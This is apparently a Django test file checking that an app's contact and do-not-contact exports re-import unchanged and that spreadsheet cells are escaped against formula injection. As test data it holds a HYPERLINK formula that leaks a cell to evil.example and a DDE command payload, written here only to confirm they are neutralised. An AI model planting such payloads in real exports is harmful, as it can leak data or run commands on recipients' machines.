"""What Audience exports, it imports unchanged: the People and Do Not Contact exports (CSV and
.xlsx, the screen's and the jobs') uploaded again through the import screens; and every cell of
every export, headers included, neutralised the same way on every path (`audience.spreadsheets`)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from audience.models import AttributeDefinition, Profile
from dnc import services as dnc_services
from dnc.models import DncEntryAccount, Source
from imports import exports
from imports.models import ExportJob, ImportJob
from tests.imports.conftest import job_from, run

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def _download(client, job: ExportJob) -> bytes:
    response = client.get(reverse("imports:export_download", args=[job.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _export_through_the_url(client, account, url: str, data: dict) -> ExportJob:
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse(url), data)
    assert response.status_code == 302
    return ExportJob.objects.filter(account=account).latest("id")


def _import_through_the_urls(client, account, name: str, data: bytes, kind: str, options: dict) -> ImportJob:
    """Upload, keep the suggested mapping, analyze and import, as a person would."""
    response = client.post(reverse("imports:new"), {"kind": kind, "file": SimpleUploadedFile(name, data)})
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.objects.filter(account=account).latest("id")
    page = client.get(reverse("imports:map", args=[job.pk]))
    assert page.status_code == 200
    posted = {f"field_{i}": key for i, key in enumerate(job.mapping)}
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("imports:map", args=[job.pk]), posted)
    assert response.status_code == 302, response.content.decode()[:2000]
    job.refresh_from_db()
    assert job.is_analyzed, job.message
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(reverse("imports:start", args=[job.pk]), options)
    job.refresh_from_db()
    return job


def _dnc_entries(account, owner) -> None:
    for contact, sender, channel in (
        ("+385912345678", "", ""),
        ("+385 91 234 5678", "Shop", "SMS"),
        ("+385912345679", "", "WHATSAPP"),
        ("ana@example.com", "", ""),
        ("example.org", "", "EMAIL"),
    ):
        dnc_services.dnc_entry_add(
            accounts=[account], contact=contact, sender=sender, channel=channel, added_by=owner
        )


def _dnc_keys(account) -> set[tuple[str, str, str, str]]:
    return set(
        DncEntryAccount.objects.filter(account=account).values_list("kind", "value", "sender", "channel")
    )


def _dnc_import_back(outsider_client, other_account, name: str, data: bytes) -> ImportJob:
    job = _import_through_the_urls(
        outsider_client, other_account, name, data, "dnc", {"accounts": [str(other_account.pk)]}
    )
    # "Contact information" is the contact; "Type" (Phone, Email…) is not taken for the channel.
    assert job.mapping[:4] == ["contact", "", "sender", "channel"]
    return job


def test_it_imports_the_do_not_contact_screens_csv_unchanged(
    owner_client, account, owner, outsider_client, other_account
):
    _dnc_entries(account, owner)
    response = owner_client.get(reverse("dnc:export"))
    data = b"".join(response.streaming_content)
    assert b"'+385912345678" in data and b"Every channel" in data
    job = _dnc_import_back(outsider_client, other_account, "dnc.csv", data)
    assert (job.status, job.rejected, job.rows_read) == ("done", 0, 5), job.analysis
    assert _dnc_keys(other_account) == _dnc_keys(account)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_imports_the_do_not_contact_export_job_unchanged(
    owner_client, account, owner, outsider_client, other_account, fmt
):
    _dnc_entries(account, owner)
    job = _export_through_the_url(owner_client, account, "imports:export_dnc", {"query": "", "format": fmt})
    data = _download(owner_client, job)
    imported = _dnc_import_back(outsider_client, other_account, f"dnc.{fmt}", data)
    assert (imported.status, imported.rejected, imported.rows_read) == ("done", 0, 5), imported.analysis
    assert _dnc_keys(other_account) == _dnc_keys(account)


def test_it_writes_one_set_of_do_not_contact_columns(owner_client, account, owner):
    """The screen's CSV and the export job's CSV and .xlsx: the same header, the same cells."""
    from python_calamine import CalamineWorkbook

    _dnc_entries(account, owner)
    screen = list(
        csv.reader(io.StringIO(b"".join(owner_client.get(reverse("dnc:export")).streaming_content).decode()))
    )
    job = _export_through_the_url(owner_client, account, "imports:export_dnc", {"query": "", "format": "csv"})
    as_csv = list(csv.reader(io.StringIO(_download(owner_client, job).decode("utf-8-sig"))))
    job = _export_through_the_url(
        owner_client, account, "imports:export_dnc", {"query": "", "format": "xlsx"}
    )
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(_download(owner_client, job))).get_sheet_by_index(0)
    as_xlsx = sheet.to_python()
    assert screen[0] == as_csv[0] == as_xlsx[0]
    # Added differs by the time zone the reader is in; the rest cell for cell.
    added = screen[0].index("Added")

    def rows(table):
        return sorted([row[:added] + row[added + 1 :] for row in table[1:]])

    assert rows(screen) == rows(as_csv)
    assert [[c.lstrip("'") for c in row] for row in rows(as_csv)] == [
        [str(c) for c in row] for row in rows(as_xlsx)
    ]


def _awkward_people(account, owner) -> None:
    AttributeDefinition.objects.create(account=account, name=EVIL, type="text")
    AttributeDefinition.objects.create(account=account, name="Score", type="decimal")
    data = (
        "First name,Last name,Email,Phone,Phone,Company,Birth date,City,Score\n"
        "=1+1,-5,a@example.com,+385912345678,+385 91 234 5679,@Acme,1990-02-03,'=quoted,-2.5\n"
        "'abc,''+x,b@example.com,,,,,Pula,3\n"
        "Ivo,Ivić,c@example.com,+385987654321,,,,,\n"
    ).encode()
    run(job_from(account, owner, "p.csv", data), options={"default_tag": False})
    profile = Profile.objects.get(account=account, first_name="Ivo")
    profile.attributes = {EVIL: "+cmd|' /C calc'!A0"}
    profile.city = "''@y"  # apostrophes of its own before a formula character
    profile.save()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_imports_the_people_export_unchanged(owner_client, teammate_client, account, owner, fmt):
    """Exported and imported again into the same account, rewriting: every row matches its
    profile and nothing changes — the apostrophes taken off, the phones split again."""
    _awkward_people(account, owner)
    before = list(Profile.objects.filter(account=account).order_by("id").values())
    job = _export_through_the_url(
        owner_client, account, "imports:export_people", {"all": "1", "query": "", "format": fmt}
    )
    data = _download(owner_client, job)
    imported = _import_through_the_urls(
        teammate_client,
        account,
        f"people.{fmt}",
        data,
        "people",
        {"type": "lead", "existing": "rewrite"},
    )
    assert imported.mapping[0] == ""  # "Id" is this database's id, not an external id
    assert (imported.status, imported.rejected, imported.created, imported.updated) == ("done", 0, 0, 0), (
        imported.analysis
    )
    assert imported.unchanged == 3
    after = list(Profile.objects.filter(account=account).order_by("id").values())
    assert [{k: v for k, v in p.items() if k != "modified_at"} for p in after] == [
        {k: v for k, v in p.items() if k != "modified_at"} for p in before
    ]


def _csv_rows(job: ExportJob) -> list[list[str]]:
    return list(csv.reader(io.StringIO(default_storage.open(job.file_path).read().decode("utf-8-sig"))))


def _export(account, owner, fmt: str) -> ExportJob:
    with TestCase.captureOnCommitCallbacks(execute=True):
        job = exports.export_job_create(
            account=account, user=owner, kind="people", format=fmt, selection={"ids": None, "filters": {}}
        )
    job.refresh_from_db()
    return job


def _xlsx_cells(job: ExportJob) -> list[list[tuple]]:
    """(value, quotePrefix) of every cell, as openpyxl reads the workbook."""
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(default_storage.open(job.file_path).read())).active
    return [[(c.value, bool(c.quotePrefix)) for c in row] for row in sheet.iter_rows()]


def test_it_neutralises_every_cell_and_header_on_every_path(account, owner, monkeypatch):
    """The header too: a custom attribute named like a formula. On PostgreSQL the CSV and the
    .xlsx are built in SQL (`sql_cell_safe`, `sql_formula_like`): they must read the same as the
    Python writers' — the test that holds the three definitions together."""
    from types import SimpleNamespace

    _awkward_people(account, owner)
    paths = {}
    for name in ("fast", "generic"):
        paths[name] = (
            _csv_rows(_export(account, owner, "csv")),
            _xlsx_cells(_export(account, owner, "xlsx")),
        )
        monkeypatch.setattr(exports, "connection", SimpleNamespace(vendor="generic"))
    assert paths["fast"] == paths["generic"]
    rows, cells = paths["fast"]
    header = rows[0]
    assert header[-2:] == ["'" + EVIL, "Score"]
    by_name = {row[3]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_name["'=1+1"]["Last name"] == "'-5" and by_name["'=1+1"]["Company"] == "'@Acme"
    assert by_name["'=1+1"]["Phones"] == "'+385912345678; +385912345679"
    # The import took one apostrophe off ("'=quoted" is "=quoted", "''+x" is "'+x"); the export
    # puts one back.
    assert by_name["'=1+1"]["City"] == "'=quoted" and by_name["'=1+1"]["Score"] == "-2.5"
    assert by_name["'abc"]["Last name"] == "''+x" and by_name["Ivo"]["City"] == "'''@y"
    assert by_name["Ivo"]["'" + EVIL] == "'+cmd|' /C calc'!A0"
    # .xlsx: the text as it is, the quotePrefix style where it looks like a formula; no formula.
    assert cells[0][-2] == (EVIL, True) and cells[0][0] == ("Id", False)
    values = {value: prefixed for row in cells for value, prefixed in row if isinstance(value, str)}
    assert values["=1+1"] and values["-5"] and values["@Acme"] and values["=quoted"]
    assert values["'+x"] and values["''@y"] and values["+cmd|' /C calc'!A0"]
    assert values["'abc"] is False and values["Ivo"] is False


def test_it_leaves_dnc_channel_words_of_the_export_importable(account, owner):
    """The export writes "Every channel" and channel names; the import reads them back."""
    data = b"Contact information,Channel\n+385912345678,Every channel\n+385912345679,WhatsApp\n"
    job = run(
        job_from(account, owner, "d.csv", data, kind="dnc"), user=owner, options={"accounts": [account.pk]}
    )
    assert (job.status, job.created, job.rejected) == ("done", 2, 0), job.analysis
    assert set(DncEntryAccount.objects.filter(account=account).values_list("channel", flat=True)) == {
        "",
        "WHATSAPP",
    }
    assert Source.IMPORT in set(
        DncEntryAccount.objects.filter(account=account).values_list("source", flat=True)
    )
